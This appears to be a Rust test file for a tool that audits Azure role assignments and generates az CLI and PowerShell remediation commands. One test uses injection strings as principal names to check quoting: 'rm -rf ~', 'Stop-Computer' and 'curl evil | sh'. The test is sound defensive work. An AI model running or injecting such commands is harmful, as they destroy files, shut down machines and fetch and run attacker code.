use super::*;
use crate::access::AssignmentType;
use crate::access::World;
use crate::audit::testing::{DELEGATION, Estate, RG, S1};

fn grant_of<T>(estate: &Estate, look: impl FnOnce(&Effective<'_>) -> T) -> T {
    let world = World::new(&estate.facts);
    look(world.grants().last().unwrap())
}

#[test]
fn a_name_never_becomes_a_command() {
    assert_eq!(sh("a'; rm -rf ~; '"), r"'a'\''; rm -rf ~; '\'''");
    assert_eq!(ps("a'; Stop-Computer; '"), "'a''; Stop-Computer; '''");
    assert_eq!(ps("a\u{2019}; Stop-Computer"), "'a\u{2019}\u{2019}; Stop-Computer'");
    let hostile = "x'; curl evil | sh; '";
    let estate = Estate::bare().user(hostile).assign(hostile, builtin::OWNER, S1);
    for fix in grant_of(&estate, |grant| [move_to_group(grant), constrain(grant), make_eligible(grant)]) {
        let az = fix.az.unwrap().replace(r"'\''", "");
        let outside: String = az.split('\'').step_by(2).collect();
        assert!(!outside.contains("curl"), "{az}");
        let powershell = fix.powershell.unwrap().replace("''", "");
        let outside: String = powershell.split('\'').step_by(2).collect();
        assert!(!outside.contains("curl"), "{powershell}");
    }
}

#[test]
fn an_assignment_is_deleted_by_its_id() {
    let fix = grant_of(&Estate::bare().user("ann").assign("ann", builtin::READER, S1), remove);
    let id = "/subscriptions/s1/providers/Microsoft.Authorization/roleAssignments/a0";
    assert_eq!(fix.az.unwrap(), format!("az role assignment delete --ids '{id}'"));
    let cmdlet = "Remove-AzRoleAssignment -ObjectId 'ann' -RoleDefinitionId 'acdd72a7-3385-48ef-bd42-f606fba81ae7'";
    assert_eq!(fix.powershell.unwrap(), format!("{cmdlet} -Scope '{S1}'"));
}

#[test]
fn an_eligibility_is_removed_by_a_request_that_names_principal_and_role() {
    let fix = grant_of(&Estate::bare().user("ann").eligible("ann", builtin::READER, S1, None), remove);
    let az = fix.az.unwrap();
    assert!(az.starts_with(
        "az rest --method put --url '/subscriptions/s1/providers/Microsoft.Authorization/\
         roleEligibilityScheduleRequests/'\"$(uuidgen)\"'?api-version=2020-10-01' --body '{\"properties\":"
    ));
    assert!(az.contains(r#""requestType":"AdminRemove""#) && az.contains(r#""principalId":"ann""#), "{az}");
    assert!(fix.powershell.unwrap().starts_with("New-AzRoleEligibilityScheduleRequest -Name (New-Guid).Guid"));
}

#[test]
fn an_activation_is_removed_by_a_request_of_the_other_kind() {
    let fix = grant_of(&Estate::bare().user("ann").activated("ann", builtin::READER, S1), remove);
    assert!(fix.az.unwrap().contains("roleAssignmentScheduleRequests"));
    assert!(fix.powershell.unwrap().starts_with("New-AzRoleAssignmentScheduleRequest"));
}

#[test]
fn the_condition_that_is_proposed_is_one_that_limits_delegation() {
    let fix = grant_of(&Estate::bare().user("ann").assign("ann", builtin::OWNER, S1), constrain);
    let az = fix.az.unwrap();
    let body = az.strip_prefix("az role assignment update --role-assignment '").unwrap().strip_suffix('\'').unwrap();
    let body: serde_json::Value = serde_json::from_str(&body.replace(r"'\''", "'")).unwrap();
    assert!(crate::access::condition::constrains_delegation(body["condition"].as_str().unwrap()));
    assert_eq!((&body["name"], &body["principalType"]), (&"a0".into(), &"User".into()), "{body}");
    let unknown = Estate::bare().assign("x", builtin::OWNER, S1);
    let unknown = unknown.with(|facts| facts.assignments[0].principal.kind = "Unknown".to_owned());
    assert!(!grant_of(&unknown, constrain).az.unwrap().contains("principalType"));
}

#[test]
fn a_condition_that_is_there_is_not_written_over() {
    let estate = Estate::bare().user("ann").assign_if("ann", builtin::OWNER, S1, Some("@Resource[a] == 1"));
    let fix = grant_of(&estate, constrain);
    assert!(fix.az.is_none() && fix.powershell.is_none() && fix.portal.contains("keep the condition"), "{fix:?}");
}

#[test]
fn a_grant_that_is_made_anew_keeps_its_condition() {
    let role = builtin::RBAC_ADMINISTRATOR;
    let estate = Estate::bare().group("g", &[]).assign_if("g", role, S1, Some(DELEGATION));
    let again = |grant: &Effective<'_>| replace(grant, "Group", role, "Administrator", &ArmId::new(RG));
    for fix in grant_of(&estate, |grant| [move_to_group(grant), make_eligible(grant), again(grant)]) {
        let az = fix.az.unwrap();
        assert!(
            az.contains("1d18fff3")
                && (az.contains("--condition-version 2.0") || az.contains(r#""conditionVersion":"2.0""#)),
            "{az}"
        );
        let powershell = fix.powershell.unwrap();
        assert!(powershell.contains("1d18fff3") && powershell.contains(" -ConditionVersion '2.0'"), "{powershell}");
    }
    let other = grant_of(&estate, |grant| replace(grant, "Group", builtin::CONTRIBUTOR, "Contributor", grant.scope));
    assert!(other.az.is_none() && other.powershell.is_none() && other.portal.contains("condition"), "{other:?}");
    let eligible = Estate::bare().group("g", &[]).eligible("g", role, S1, None);
    let eligible = eligible.with(|facts| facts.pim[0].condition = Some(DELEGATION.to_owned()));
    assert!(grant_of(&eligible, end_eligibility).az.unwrap().contains("1d18fff3"));
    assert!(!grant_of(&eligible, remove).az.unwrap().contains("1d18fff3"));
}

#[test]
fn what_could_be_activated_or_was_is_not_made_to_stand() {
    let activated = Estate::bare().user("ann").activated("ann", builtin::OWNER, S1).assign("ann", builtin::OWNER, S1);
    let activated = activated.with(|facts| {
        facts.pim[0].origin = Some(facts.assignments[0].id.clone());
        facts.pim[0].assignment_type = Some(AssignmentType::Activated);
    });
    for estate in [Estate::bare().user("ann").eligible("ann", builtin::OWNER, S1, None), activated] {
        let again = |grant: &Effective<'_>| replace(grant, "User", builtin::OWNER, "Owner", grant.scope);
        for fix in grant_of(&estate, |grant| [move_to_group(grant), again(grant)]) {
            assert!(fix.az.is_none() && fix.powershell.is_none() && !fix.portal.is_empty(), "{fix:?}");
        }
    }
}

#[test]
fn a_principal_of_no_kind_that_the_command_knows_is_given_without_one() {
    let scope = ArmId::new(S1);
    let az = |kind: &str| assign("x", kind, builtin::READER, "Reader", &scope).az.unwrap();
    assert!(
        az("ForeignGroup").contains("'x' --assignee-principal-type 'ForeignGroup' --role"),
        "{}",
        az("ForeignGroup")
    );
    for kind in ["Unknown", ""] {
        assert!(az(kind).contains("--assignee-object-id 'x' --role"), "{}", az(kind));
    }
}

#[test]
fn a_custom_role_keeps_what_it_is_not_about() {
    let estate = Estate::bare().role("r", &["*", "A/b"], &["C/d"], &["E/f"], &[S1]);
    let role = estate.facts.definitions.last().unwrap();
    let az = withhold(role, "X/write").az.unwrap();
    for part in [r#""NotActions":["C/d","X/write"]"#, r#""Actions":["*","A/b"]"#, r#""DataActions":["E/f"]"#, S1] {
        assert!(az.contains(part), "{part} in {az}");
    }
    assert!(limit_role(role).az.unwrap().contains(r#""Actions":["A/b","*/read"]"#));
    let mut several = role.clone();
    several.permissions.push(crate::estate::Permission::default());
    assert!(limit_role(&several).az.is_none());
}
